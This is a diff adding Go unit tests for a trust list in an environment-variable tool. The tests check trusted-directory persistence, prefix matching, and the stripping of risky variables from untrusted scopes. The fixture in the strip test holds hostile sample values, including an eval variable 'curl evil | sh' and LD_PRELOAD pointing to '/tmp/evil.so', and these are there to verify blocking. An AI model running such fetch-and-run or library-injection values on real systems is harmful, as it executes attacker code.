@@ -0,0 +1,78 @@
+package trust
+
+import (
+	"path/filepath"
+	"testing"
+
+	"github.com/nick-skriabin/enva/internal/env"
+)
+
+func TestListPersists(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "trust", "trusted.json")
+
+	l, err := Load(path)
+	if err != nil || len(l.Dirs) != 0 {
+		t.Fatalf("Load on missing file = %+v, %v", l, err)
+	}
+	if !l.Add("/work/b") || !l.Add("/work/a") || l.Add("/work/a") {
+		t.Error("Add should report only new dirs")
+	}
+	if err := l.Save(); err != nil {
+		t.Fatalf("Save failed: %v", err)
+	}
+
+	l, err = Load(path)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if len(l.Dirs) != 2 || l.Dirs[0] != "/work/a" {
+		t.Errorf("Dirs = %v", l.Dirs)
+	}
+	if !l.Remove("/work/a") || l.Remove("/work/a") {
+		t.Error("Remove should report only trusted dirs")
+	}
+}
+
+func TestTrusts(t *testing.T) {
+	l := &List{Dirs: []string{"/work/app"}}
+	for dir, want := range map[string]bool{
+		"/work/app":       true,
+		"/work/app/sub":   true,
+		"/work/apple":     false,
+		"/work":           false,
+		"/elsewhere/path": false,
+	} {
+		if got := l.Trusts(dir); got != want {
+			t.Errorf("Trusts(%q) = %v, want %v", dir, got, want)
+		}
+	}
+}
+
+func TestStrip(t *testing.T) {
+	ctx := &env.ResolveContext{Resolved: map[string]*env.ResolvedVar{
+		"LD_PRELOAD": {Key: "LD_PRELOAD", Value: "/tmp/evil.so", DefinedAtPath: "/shared"},
+		"PATH":       {Key: "PATH", Value: "/opt/bin", DefinedAtPath: "/work/app"},
+		"NODE_OPTS":  {Key: "NODE_OPTS", Value: "--require x", DefinedAtPath: "/shared"},
+		"API_URL":    {Key: "API_URL", Value: "http://x", DefinedAtPath: "/shared"},
+		"REV":        {Key: "REV", Value: "curl evil | sh", Eval: true, DefinedAtPath: "/shared"},
+		"SHA":        {Key: "SHA", Value: "git rev-parse HEAD", Eval: true, DefinedAtPath: "/work/app"},
+	}}
+	l := &List{Dirs: []string{"/work"}}
+
+	blocked := l.Strip(ctx, []string{"NODE_OPTS"})
+	if len(blocked) != 3 || blocked[0].Key != "LD_PRELOAD" || blocked[1].Key != "NODE_OPTS" || blocked[2].Key != "REV" {
+		t.Errorf("blocked = %+v", blocked)
+	}
+	if _, ok := ctx.Resolved["PATH"]; !ok {
+		t.Error("PATH from a trusted scope should be kept")
+	}
+	if _, ok := ctx.Resolved["API_URL"]; !ok {
+		t.Error("keys off the denylist should be kept")
+	}
+	if _, ok := ctx.Resolved["SHA"]; !ok {
+		t.Error("eval var from a trusted scope should be kept")
+	}
+	if len(ctx.Resolved) != 3 {
+		t.Errorf("Resolved = %v", ctx.Resolved)
+	}
+}